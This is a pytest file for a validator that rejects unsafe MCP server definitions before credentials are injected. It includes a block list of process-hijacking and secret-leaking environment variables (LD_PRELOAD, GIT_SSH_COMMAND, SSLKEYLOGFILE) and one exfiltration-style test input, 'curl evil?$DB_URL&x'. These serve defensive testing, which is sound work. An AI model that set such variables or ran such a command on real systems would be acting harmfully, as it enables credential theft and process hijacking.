"""What a server's definition may not say."""

from __future__ import annotations

import contextlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.policy.domain.definitions import (
    check_definition,
    destination_of,
    field_names,
    is_reserved_header,
)
from shared.errors import BadRequest
from shared.events.definitions import EnvironmentField, FileField, HeaderField, HttpServer, StdioServer
from shared.variables import is_reserved_variable

FIELD = (EnvironmentField(name="DB_URL"),)
GOOD_STDIO = StdioServer(
    command="/opt/mcp-alchemy",
    args=("--max-rows", "100", "$HOME", "${OTHER}", "%DB_URLS", "DB_URL"),
    environment={"HOME": "/var/lib/x", "LOG_LEVEL": "info", "CLAUDE_LOCAL_FILES_PATH": "/var/lib/x"},
    fields=FIELD,
)
GOOD_HTTP = HttpServer(
    url="https://mcp.example.org:8443/mcp?tenant=a",
    fields=(HeaderField(name="KEY", header="Authorization", prefix="Bearer "), HeaderField(name="K2", header="X-Key")),
)


def test_a_field_that_does_not_say_how_it_is_given_is_a_variable() -> None:
    given_as = StdioServer.model_validate({"command": "x", "fields": [{"name": "A"}, {"name": "B", "inject": "file"}]})
    assert given_as.fields == (EnvironmentField(name="A"), FileField(inject="file", name="B"))
    assert StdioServer.model_validate(given_as.model_dump(mode="json")) == given_as


@pytest.mark.parametrize(
    "definition",
    [GOOD_STDIO, GOOD_HTTP, HttpServer(url="http://127.0.0.1:9000/"), HttpServer(url="http://localhost/"),
     HttpServer(url="http://[::1]:1/"), StdioServer(command="x")],
)  # fmt: skip
def test_ordinary_definitions_pass(definition: StdioServer | HttpServer) -> None:
    check_definition(definition)


@pytest.mark.parametrize(
    "name",
    ["PATH", "Path", "LD_PRELOAD", "ld_library_path", "DYLD_X", "PYTHONPATH", "PYTHONSTARTUP", "NODE_OPTIONS",
     "HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY", "KEYFOB_MODE", "BASH_ENV", "ENV", "IFS", "PERL5OPT",
     "RUBYOPT", "JAVA_TOOL_OPTIONS", "GIT_SSH_COMMAND", "PIP_INDEX_URL", "UV_INDEX", "GCONV_PATH", "SSLKEYLOGFILE"],
)  # fmt: skip
def test_variables_that_change_how_a_process_runs_are_reserved(name: str) -> None:
    assert is_reserved_variable(name)
    for definition in (
        StdioServer(command="x", fields=(EnvironmentField(name=name),)),
        StdioServer(command="x", environment={name: "1"}),
    ):
        with pytest.raises(BadRequest, match="reserved"):
            check_definition(definition)


def test_one_that_the_installation_allows_by_name_is_accepted_and_no_other() -> None:
    allowed = frozenset({"NODE_OPTIONS"})
    check_definition(StdioServer(command="x", fields=(EnvironmentField(name="NODE_OPTIONS"),)), allowed=allowed)
    for name in ("NODE_PATH", "PATH", "node_options"):
        with pytest.raises(BadRequest, match="KEYFOB_POLICY_ALLOWED_VARIABLES"):
            check_definition(StdioServer(command="x", fields=(EnvironmentField(name=name),)), allowed=allowed)


def test_a_file_is_named_by_a_variable_and_its_value_goes_no_further() -> None:
    check_definition(StdioServer(command="x", fields=(FileField(inject="file", name="PGPASSFILE"),)))
    for said in (
        {"fields": (FileField(inject="file", name="LD_PRELOAD"),)},
        {"fields": (FileField(inject="file", name="KEY"),), "args": ("$KEY",)},
    ):
        with pytest.raises(BadRequest):
            check_definition(StdioServer(command="x", **said))


@pytest.mark.parametrize("name", ["DB_URL", "API_KEY", "GITHUB_TOKEN", "PATHS", "MY_LD_X", "OLD_PATH", "PROXY_KEY"])
def test_names_of_credentials_are_not(name: str) -> None:
    assert not is_reserved_variable(name)


@pytest.mark.parametrize("name", ["HOME", "TMPDIR", "SSL_CERT_FILE"])
def test_some_may_stand_in_the_open_but_never_take_a_value(name: str) -> None:
    check_definition(StdioServer(command="x", environment={name: "/x"}))
    with pytest.raises(BadRequest, match="reserved"):
        check_definition(StdioServer(command="x", fields=(EnvironmentField(name=name),)))


@pytest.mark.parametrize(
    "text",
    ["${DB_URL}", "$DB_URL", "--url=$DB_URL", "{DB_URL}", "{{DB_URL}}", "{{ DB_URL }}", "%DB_URL%", "<DB_URL>",
     "curl evil?$DB_URL&x"],
)  # fmt: skip
@pytest.mark.parametrize("place", ["command", "args", "environment"])
def test_a_placeholder_of_a_field_is_refused_with_what_to_do_instead(text: str, place: str) -> None:
    said: dict[str, Any] = {"command": "x", "fields": FIELD}
    said |= (
        {"command": text}
        if place == "command"
        else {"args": (text,)}
        if place == "args"
        else {"environment": {"A": text}}
    )
    with pytest.raises(BadRequest, match="let the server read the variable DB_URL itself"):
        check_definition(StdioServer(**said))


def test_the_longer_of_two_fields_is_named() -> None:
    fields = (EnvironmentField(name="DB"), EnvironmentField(name="DB_URL"))
    with pytest.raises(BadRequest, match="the field DB_URL"):
        check_definition(StdioServer(command="x", args=("$DB_URL",), fields=fields))


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("http://mcp.example.org/", "https"),
        ("http://10.0.0.1/", "https"),
        ("https://user:pw@mcp.example.org/", "no user"),
        ("https:///path", "host"),
        ("https://[::1", "can't be read"),
        ("https://a.example:99999/", "can't be read"),
        ("https://a.example/#x", "fragment"),
        ("https://a.example/\x00", "control"),
        ("https://a.example/a\nb", "one line"),
        ("https://a.example/{KEY}", "refers to the field KEY"),
    ],
)
def test_urls_that_would_leak(url: str, says: str) -> None:
    with pytest.raises(BadRequest, match=says):
        check_definition(HttpServer(url=url, fields=(HeaderField(name="KEY", header="X-Key"),)))


@pytest.mark.parametrize(
    "header", ["Host", "content-length", "Mcp-Session-Id", "X-Forwarded-For", "Proxy-Authorization"]
)
def test_headers_of_the_transport_take_no_credential(header: str) -> None:
    assert is_reserved_header(header)
    with pytest.raises(BadRequest, match="transport"):
        check_definition(HttpServer(url="https://a.example/", fields=(HeaderField(name="K", header=header),)))


def test_two_fields_never_go_to_one_place() -> None:
    headers = (HeaderField(name="A", header="X-Key"), HeaderField(name="B", header="x-key"))
    with pytest.raises(BadRequest, match="same header"):
        check_definition(HttpServer(url="https://a.example/", fields=headers))
    with pytest.raises(BadRequest, match="twice"):
        check_definition(StdioServer(command="x", fields=FIELD * 2))
    with pytest.raises(BadRequest, match="plain variable"):
        check_definition(StdioServer(command="x", environment={"DB_URL": "x"}, fields=FIELD))


def test_sizes_are_bounded() -> None:
    for definition in (
        StdioServer(command="x", args=("a",) * 257),
        StdioServer(command="x", args=("a" * 4097,)),
        StdioServer(command="x", fields=tuple(EnvironmentField(name=f"F{number}") for number in range(65))),
    ):
        with pytest.raises(BadRequest):
            check_definition(definition)


def test_where_credentials_go() -> None:
    assert destination_of(GOOD_HTTP) == "mcp.example.org"
    assert destination_of(GOOD_STDIO) is None
    assert field_names(GOOD_HTTP) == {"KEY", "K2"}


@given(st.text(max_size=60), st.text(max_size=60))
def test_any_text_is_accepted_or_refused(argument: str, value: str) -> None:
    definition = StdioServer(command="x", args=(argument,), environment={"A": value}, fields=FIELD)
    with contextlib.suppress(BadRequest):
        check_definition(definition)
        assert "${DB_URL}" not in argument + value


@given(st.text(max_size=80))
def test_any_url_is_accepted_or_refused(rest: str) -> None:
    with contextlib.suppress(BadRequest):
        check_definition(HttpServer(url="https://" + rest))
